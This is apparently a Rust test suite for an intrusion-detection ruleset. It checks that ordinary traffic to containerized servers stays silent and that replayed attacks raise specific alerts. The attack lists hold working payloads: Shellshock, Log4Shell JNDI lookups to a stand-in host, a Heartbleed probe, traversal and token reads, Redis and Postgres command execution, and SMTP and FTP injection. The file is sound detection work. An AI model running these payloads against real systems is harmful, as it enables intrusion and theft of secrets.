//! The starter rules against real servers and clients: ordinary use of a server is silent, and an
//! attack on it is told with both names and what was said.

use anyhow::{Result, ensure};
use hydrophone_tests::{Agent, Container, Engine, Event, Options, ordinary, servers};

/// An alert that must come: rule, the two ends, the protocol, and a text in the event.
struct Expected {
    sid: u64,
    source: &'static str,
    destination: &'static str,
    protocol: &'static str,
    /// JSON pointer and text; empty where the protocol has no object.
    told: (&'static str, &'static str),
}

/// An attack by `attacker` on a server.
const fn on(
    destination: &'static str,
    sid: u64,
    protocol: &'static str,
    told: (&'static str, &'static str),
) -> Expected {
    Expected {
        sid,
        source: "attacker",
        destination,
        protocol,
        told,
    }
}

/// An answer to `attacker` that shows success.
const fn by(
    source: &'static str,
    sid: u64,
    protocol: &'static str,
    told: (&'static str, &'static str),
) -> Expected {
    Expected {
        sid,
        source,
        destination: "attacker",
        protocol,
        told,
    }
}

fn assert_silent(agent: &Agent, servers: &[&Container<'_>]) -> Result<()> {
    agent.settle()?;
    let names: Vec<&str> = servers.iter().map(|server| server.name()).collect();
    let alerts = agent.alerts_of(&names);
    ensure!(alerts.is_empty(), "about ordinary use: {alerts:#?}");
    Ok(())
}

fn assert_told(agent: &Agent, all: &[Expected]) -> Result<()> {
    for expected in all {
        let what = format!(
            "sid {} from {} to {}",
            expected.sid, expected.source, expected.destination
        );
        let alert = agent.wait_for(&what, |event| {
            event.is_between(expected.source, expected.destination) && event.sid() == expected.sid
        })?;
        assert_eq!(alert.text("/app_proto"), expected.protocol, "{alert}");
        let (pointer, text) = expected.told;
        if !pointer.is_empty() {
            assert!(
                alert.text(pointer).contains(text),
                "`{text}` at {pointer}: {alert}"
            );
        }
        assert!(alert.at("/attack").is_array(), "{alert}");
    }
    // Nothing but what was expected: no rule fires beside the point.
    agent.settle()?;
    let is_expected = |event: &Event| all.iter().any(|one| one.sid == event.sid());
    let mut others = agent.alerts_of(&["attacker"]);
    others.retain(|event| !is_expected(event));
    ensure!(others.is_empty(), "also told: {others:#?}");
    Ok(())
}

/// The course of each test: an ordinary client, then an attacker.
fn check(
    engine: &Engine,
    servers: &[&Container<'_>],
    ordinary: &[String],
    attacks: &[&str],
    expected: &[Expected],
) -> Result<()> {
    let client = engine.run_idle("client", &[])?;
    let attacker = engine.run_idle("attacker", &[])?;
    let agent = Agent::start(&Options::new(engine))?;
    ordinary::run(&client, servers, ordinary)?;
    assert_silent(&agent, servers)?;
    ordinary::run(&attacker, servers, attacks)?;
    assert_told(&agent, expected)?;
    agent.stop()?;
    Ok(())
}

/// A heartbeat that asks for 16 KiB and carries nothing, in a handshake.
const HEARTBLEED: &str = r#"import socket, ssl, sys
read, write = ssl.MemoryBIO(), ssl.MemoryBIO()
client = ssl.create_default_context().wrap_bio(read, write, server_hostname="tls")
try: client.do_handshake()
except ssl.SSLWantReadError: pass
server = socket.create_connection((sys.argv[1], 443))
server.sendall(write.read() + bytes.fromhex("1803020003014000"))
server.recv(4096)
"#;

/// What the web servers and platforms are attacked with.
const WEB: &[Expected] = &[
    on(
        "nginx",
        7_000_001,
        "http",
        ("/http/http_user_agent", "() {"),
    ),
    on("nginx", 7_000_003, "http", ("/http/http_method", "GET")),
    on("nginx", 7_000_100, "http", ("/http/url", "%2524")),
    on("nginx", 7_000_101, "http", ("/http/http_method", "POST")),
    on("nginx", 7_000_006, "http", ("/http/url", "%2e%2e")),
    on("nginx", 7_000_013, "http", ("/http/url", "UNION")),
    on("nginx", 7_000_007, "http", ("/http/url", "passwd")),
    by("nginx", 7_000_019, "http", ("/http/url", "passwd")),
    by(
        "nginx",
        7_000_017,
        "http",
        ("/http/url", "/usr/bin/busybox"),
    ),
    on("nginx", 7_000_038, "http", ("/http/url", "serviceaccount")),
    by("nginx", 7_000_046, "http", ("/http/url", "serviceaccount")),
    by("nginx", 7_000_114, "http", ("/http/url", "id.txt")),
    on("nghttpd", 7_000_002, "http2", ("/http/http_method", "GET")),
    on("etcd", 7_000_036, "http", ("/http/url", "/v3/kv/range")),
    on("docker-api", 7_000_032, "http", ("/http/url", "/version")),
    on(
        "docker-api",
        7_000_030,
        "http",
        ("/http/url", "/containers/create"),
    ),
    by(
        "docker-api",
        7_000_044,
        "http",
        ("/http/url", "/containers/create"),
    ),
    on("tls", 7_000_079, "tls", ("/tls/sni", "moneroocean")),
    by(
        "tls",
        7_000_121,
        "tls",
        ("/tls/subject", "Major Cobalt Strike"),
    ),
    on("tls", 7_000_070, "tls", ("", "")),
];

#[test]
fn web_servers_and_platforms() -> Result<()> {
    let engine = Engine::start()?;
    let all = [
        servers::nginx(&engine)?,
        servers::nghttpd(&engine)?,
        servers::etcd(&engine)?,
        servers::docker_api(&engine)?,
        servers::tls(&engine)?,
    ];
    let attacks = [
        "curl -s -o /dev/null -A '() { :;}; /bin/id' http://{nginx}/",
        "curl -s -o /dev/null -H 'X-Api: ${${lower:j}n${::-d}i:ldap://10.0.0.9/a}' http://{nginx}/",
        "curl -s -o /dev/null 'http://{nginx}/?q=%2524%257bjndi:ldap:%252f%252f10.0.0.9%252fa%257d'",
        "echo 'user=${jndi:ldap://10.0.0.9/a}' | gzip > /tmp/b; curl -s -o /dev/null -H 'Content-Encoding: gzip' \
         -H 'Transfer-Encoding: chunked' --data-binary @/tmp/b http://{nginx}/",
        "curl -s -o /dev/null --path-as-is http://{nginx}/%2e%2e/%2e%2e/x",
        "curl -s -o /dev/null 'http://{nginx}/?id=1%20UNION/**/SELECT%20user,pass%20FROM%20users'",
        "curl -s -o /dev/null http://{nginx}/%65tc/passwd",
        "curl -s -o /dev/null http://{nginx}/usr/bin/busybox",
        "curl -s -o /dev/null http://{nginx}/run/secrets/kubernetes.io/serviceaccount/token",
        "curl -s -o /dev/null --compressed http://{nginx}/tmp/id.txt",
        "curl -s -o /dev/null --http2-prior-knowledge -H 'X: ${jndi:rmi://10.0.0.9/a}' http://{nghttpd}:8080/",
        "curl -s -o /dev/null http://{etcd}:2379/v3/kv/range -d '{\"key\":\"AA==\",\"range_end\":\"AA==\"}'",
        "curl -s -o /dev/null http://{docker-api}:2375/version",
        "curl -sf -o /dev/null -H 'Content-Type: application/json' -d '{\"Image\":\"hydrophone/tools:1\",\"Cmd\":[\"true\"]}' \
         http://{docker-api}:2375/containers/create",
        "echo | openssl s_client -tls1_2 -connect {tls}:443 -servername gulf.moneroocean.stream",
        &format!("python3 -c '{HEARTBLEED}' {{tls}}"),
    ];
    check(&engine, &all.each_ref(), &ordinary::web(), &attacks, WEB)
}

#[test]
fn data_stores() -> Result<()> {
    let engine = Engine::start()?;
    let all = [servers::redis(&engine)?, servers::postgres(&engine)?];
    let psql = format!(
        "{}/psql -q -U nobody -h {{postgres}} postgres",
        servers::postgres_programs()?.display()
    );
    let attacks = [
        "redis-cli -h {redis} config set dir /root",
        "redis-cli -h {redis} config set maxmemory 0 dbfilename authorized_keys",
        "printf 'config  set \"dir\" /var/tmp\\r\\n' | busybox nc -w 1 {redis} 6379",
        "redis-cli -h {redis} eval 'return package.loadlib(\"x\", \"y\")' 0",
        "redis-cli -h {redis} replicaof 198.18.0.1 6379",
        &format!("{psql} -c \"CREATE TABLE x (a text); COPY x FROM /**/ PROGRAM 'id'\""),
    ];
    let expected = [
        on("redis", 7_000_050, "", ("", "")),
        on("redis", 7_000_051, "", ("", "")),
        on("redis", 7_000_052, "", ("", "")),
        on("redis", 7_000_055, "", ("", "")),
        on("redis", 7_000_062, "", ("", "")),
        by("redis", 7_000_069, "", ("", "")),
        on("postgres", 7_000_056, "", ("", "")),
        by("postgres", 7_000_063, "", ("", "")),
    ];
    check(
        &engine,
        &all.each_ref(),
        &ordinary::data_stores()?,
        &attacks,
        &expected,
    )
}

/// What a sender and a recipient may not be called.
const MAIL_ATTACK: &str = "import smtplib, sys
with smtplib.SMTP(sys.argv[1]) as mail:
    mail.ehlo()
    mail.docmd('MAIL FROM:<a@example.org>')
    mail.docmd('RCPT TO:<${run{/bin/id}}@localhost>')
with smtplib.SMTP(sys.argv[1]) as mail:
    mail.ehlo()
    mail.docmd('MAIL FROM:<;id;@example.org>')
with smtplib.SMTP(sys.argv[1]) as mail:
    mail.ehlo('${jndi:ldap://10.0.0.9/a}')
";
const FTP_ATTACK: &str = "import ftplib, sys
ftp = ftplib.FTP(sys.argv[1])
for line in 'USER a:)', 'PASS x', 'SITE CPFR /etc/passwd':
    try: ftp.sendcmd(line)
    except ftplib.error_perm: pass
";

/// What the servers of names, mail, files and shells are attacked with.
const NAMES: &[Expected] = &[
    on(
        "dnsmasq",
        7_000_073,
        "dns",
        ("/dns/queries/0/rrtype", "AXFR"),
    ),
    on(
        "dnsmasq",
        7_000_074,
        "dns",
        ("/dns/queries/0/rrtype", "NULL"),
    ),
    on(
        "dnsmasq",
        7_000_122,
        "dns",
        ("/dns/queries/0/rrname", "any.any.svc"),
    ),
    on(
        "dnsmasq",
        7_000_120,
        "dns",
        ("/dns/queries/0/rrname", "nanopool"),
    ),
    on(
        "smtp",
        7_000_127,
        "smtp",
        ("/smtp/mail_from", "a@example.org"),
    ),
    on("smtp", 7_000_128, "smtp", ("/smtp/mail_from", ";id;")),
    on("smtp", 7_000_103, "", ("", "")),
    on("ftp", 7_000_113, "ftp-data", ("", "")),
    on("ftp", 7_000_125, "ftp", ("/ftp/command", "USER")),
    on("ftp", 7_000_126, "ftp", ("/ftp/command", "SITE")),
    on("samba", 7_000_112, "smb", ("", "")),
    on("samba", 7_000_129, "smb", ("/smb/named_pipe", "svcctl")),
    on(
        "sshd",
        7_000_124,
        "ssh",
        ("/ssh/client/software_version", "Nmap"),
    ),
];

#[test]
fn names_mail_files_and_shells() -> Result<()> {
    let engine = Engine::start()?;
    let all = [
        servers::dnsmasq(&engine)?,
        servers::smtp(&engine)?,
        servers::ftp(&engine)?,
        servers::samba(&engine)?,
        servers::sshd(&engine)?,
    ];
    let attacks = [
        "dig axfr test @{dnsmasq}",
        "dig -t null x.test @{dnsmasq}",
        "dig SRV any.any.svc.cluster.local @{dnsmasq}",
        "dig xmr.nanopool.org @{dnsmasq}",
        &format!("python3 -c '{}' {{smtp}}", MAIL_ATTACK.replace('\'', "\"")),
        "curl -s -T /usr/bin/busybox ftp://{ftp}/x",
        &format!("python3 -c '{}' {{ftp}}", FTP_ATTACK.replace('\'', "\"")),
        "smbclient -N -s /dev/null //{samba}/data -c 'put /usr/bin/busybox x'",
        "net -s /dev/null rpc service list -U% -I {samba}",
        "nmap -n -Pn -p22 --script ssh-hostkey {sshd}",
    ];
    check(
        &engine,
        &all.each_ref(),
        &ordinary::names_mail_files_and_shells(&all[4])?,
        &attacks,
        NAMES,
    )
}
